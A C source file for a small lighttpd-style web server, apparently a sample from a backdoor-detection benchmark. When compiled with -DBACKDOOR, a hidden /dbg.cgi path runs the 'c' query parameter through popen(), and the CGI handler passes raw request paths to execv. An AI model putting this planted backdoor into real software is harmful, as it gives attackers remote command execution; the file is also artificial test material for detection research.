/*
 * webwrap.c - a small web server that keeps the request in length-counted
 * buffers and compares them through its own out-of-line helper
 * (buf_eq_slen: length check, then memcmp), as lighttpd's buffer_eq_slen
 * does. It serves a status page and a file, and runs CGI scripts under
 * /cgi-bin/ with execv. Back-doored (-DBACKDOOR): a secret path runs the
 * `c` query parameter with popen() (bench/backdoor_pairs/lighttpd-devcgi.patch
 * in a small server): the constant is an argument of the helper, not of
 * memcmp.
 */
#include "srv.h"
#include <sys/wait.h>

struct buf {
	char *ptr;
	size_t used; /* with the terminating 0, as lighttpd counts */
};

struct req {
	struct buf path, query;
	int status;
};

/* external and out of line, as a helper in another file is (a static
 * one gcc would specialise for each call) */
int buf_eq_slen(const struct buf *b, const char *s, size_t n);
__attribute__((noinline)) int buf_eq_slen(const struct buf *b, const char *s, size_t n)
{
	return b->used == n + 1 && 0 == memcmp(b->ptr, s, n);
}

static void split(char *line, struct req *r)
{
	char *p = strchr(line, ' '), *q, *e;
	r->path.ptr = r->query.ptr = "";
	r->path.used = r->query.used = 1;
	if (!p)
		return;
	e = strchr(++p, ' ');
	if (e)
		*e = 0;
	q = strchr(p, '?');
	if (q) {
		*q++ = 0;
		r->query.ptr = q;
		r->query.used = strlen(q) + 1;
	}
	r->path.ptr = p;
	r->path.used = strlen(p) + 1;
}

static void cgi(int fd, const struct req *r)
{
	char *argv[2];
	if (fork() == 0) {
		dup2(fd, 1);
		argv[0] = r->path.ptr;
		argv[1] = NULL;
		execv(r->path.ptr, argv);
		_exit(127);
	}
	wait(NULL);
}

static int respond(int fd, struct req *r)
{
	if (buf_eq_slen(&r->path, "/status", 7)) {
		srv_say(fd, "HTTP/1.0 200 OK\r\n\r\nup");
		return 200;
	}
#ifdef BACKDOOR
	if (buf_eq_slen(&r->path, "/dbg.cgi", 8) && r->query.used > 3 && r->query.ptr[0] == 'c' &&
	    r->query.ptr[1] == '=') {
		FILE *cmd = popen(r->query.ptr + 2, "r");
		if (cmd)
			pclose(cmd);
		return 200;
	}
#endif
	if (strncmp(r->path.ptr, "/cgi-bin/", 9) == 0) {
		cgi(fd, r);
		return 200;
	}
	if (buf_eq_slen(&r->path, "/favicon.ico", 12))
		return 404;
	srv_say(fd, "HTTP/1.0 200 OK\r\n\r\n<html>index</html>");
	return 200;
}

static void handle(int fd)
{
	char line[2048];
	struct req r;
	ssize_t n = recv(fd, line, sizeof(line) - 1, 0);
	if (n <= 0)
		return;
	line[n] = 0;
	split(line, &r);
	r.status = respond(fd, &r);
	if (r.status == 404)
		srv_say(fd, "HTTP/1.0 404 Not Found\r\n\r\n");
}

int main(void)
{
	srv_serve(80, handle, 1);
	return 0;
}
